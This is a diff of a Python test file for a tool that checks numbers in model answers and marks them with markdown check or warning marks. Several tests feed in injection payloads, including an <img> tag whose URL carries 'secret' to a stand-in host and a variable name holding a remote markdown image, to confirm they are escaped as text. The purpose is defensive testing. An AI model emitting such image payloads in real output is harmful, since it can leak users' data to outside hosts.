@@ -1,7 +1,8 @@
 """The numbers check finds every number in an answer and traces it to a known value, or flags it."""
 import re
 
-from toolloop.numbers import Known, check_numbers, markdown_with_marks
+from toolloop.marks import markdown_with_marks, number_sources, sources_markdown
+from toolloop.numbers import Known, check_numbers
 
 KNOWN = [Known("column:temp_max.mean", 16.439), Known("shape.rows", 1461), Known("range.start", "2012-01-01"),
          Known("column:precipitation.max", 55.9), Known("multiply", 597518582790373200)]
@@ -40,16 +41,17 @@ def test_the_exponents_of_a_unit_are_not_numbers_of_the_answer():
 
 def test_marks_are_inserted_after_each_number():
     answer = "1,461 days, max 99"
-    html = markdown_with_marks(answer, check_numbers(answer, KNOWN))
-    assert html.count("✓") == 1 and html.count("⚠") == 1
-    assert "from shape.rows" in html and html.index("✓") < html.index("max")
+    checked = check_numbers(answer, KNOWN)
+    assert markdown_with_marks(answer, checked) == "1,461:green[✓] days, max 99:orange[⚠]"
+    assert [(n["text"], n["found"], n["why"]) for n in number_sources(checked)] == [
+        ("1,461", True, "from shape.rows"), ("99", False, "not found among the computed facts: check it")]
 
 
 def test_a_number_in_a_code_span_gets_its_mark_after_the_span():
     answer = "`statistic(\"steps\": 1461)` → 99 and ```\n1461\n```"
     html = markdown_with_marks(answer, check_numbers(answer, KNOWN))
-    assert html.startswith('`statistic("steps": 1461)`<span')  # HTML inside backticks would show as text
-    assert html.count("<span") == 2  # the fenced block is shown as written, without a mark
+    assert html.startswith('`statistic("steps": 1461)`:green[✓]')  # a mark inside backticks would show as text
+    assert html.count(":green[") + html.count(":orange[") == 2  # the fenced block is shown as written, unmarked
     assert html.endswith("```\n1461\n```")
 
 
@@ -58,13 +60,13 @@ def test_a_number_in_math_gets_its_mark_after_the_math():
     on a line of its own (a "$$" that ends a block must end its line). A "$5 and $10" is prices, not math."""
     inline = r"The maximum is $\boxed{1461}$ days"
     html = markdown_with_marks(inline, check_numbers(inline, KNOWN))
-    assert html.startswith(r"The maximum is $\boxed{1461}$<span") and html.endswith("</span> days")
+    assert html == r"The maximum is $\boxed{1461}$:green[✓] days"
     block = "$$\n\\max = 1461\n$$\nand 99"
     html = markdown_with_marks(block, check_numbers(block, KNOWN))
-    assert html.startswith("$$\n\\max = 1461\n$$\n\n<span") and html.count("<span") == 2
+    assert html.startswith("$$\n\\max = 1461\n$$\n\n:green[✓]") and html.endswith("and 99:orange[⚠]")
     prices = "costs $5 and $1461"
     html = markdown_with_marks(prices, check_numbers(prices, KNOWN))
-    assert html.startswith("costs $5<span") and "and $1461<span" in html
+    assert html == "costs $5:orange[⚠] and $1461:green[✓]"
 
 
 def test_math_cannot_carry_html():
@@ -85,7 +87,7 @@ def test_a_date_with_its_time_of_day_is_one_claim():
 
 
 def test_model_text_never_becomes_html_or_a_remote_image():
-    """Answers are shown with HTML on (for the marks): an <img>, an <iframe> or a markdown image in model text
+    """Answers are markdown on the page: an <img>, an <iframe> or a markdown image in model text
     must arrive as text, while a code span is left as written (markdown shows it as text)."""
     answer = ('T is 5 <img src=https://x.example/?d=secret> <iframe src="https://x.example"></iframe> '
               '![a](https://x/p.png) `<b>` & done')
@@ -101,5 +103,6 @@ def test_a_warning_naming_a_hostile_variable_shows_its_name_as_text():
     answer = "The average rain, with a standard deviation of 2.167, varies."
     checked = check_numbers(answer, [Known(f"column:{name}.mean", 2.1667, variable=name, kind="mean")])
     assert checked[0].note.startswith(f"this is {name}'s mean")
-    shown = re.sub(r'title="[^"]*"', "", markdown_with_marks(answer, checked))  # an attribute is never markdown
-    assert "![" not in shown and "<img" not in shown and "!\\[x](http://203.0.113.5/a.png) &lt;img" in shown
+    for shown in (markdown_with_marks(answer, checked), sources_markdown(number_sources(checked))):
+        assert "![" not in shown and "](" not in shown and not re.search(r"(?<!\\)<img", shown)
+        assert "!\\[x\\]\\(http://203.0.113.5/a.png\\) \\<img" in shown  # escaped: shown as written
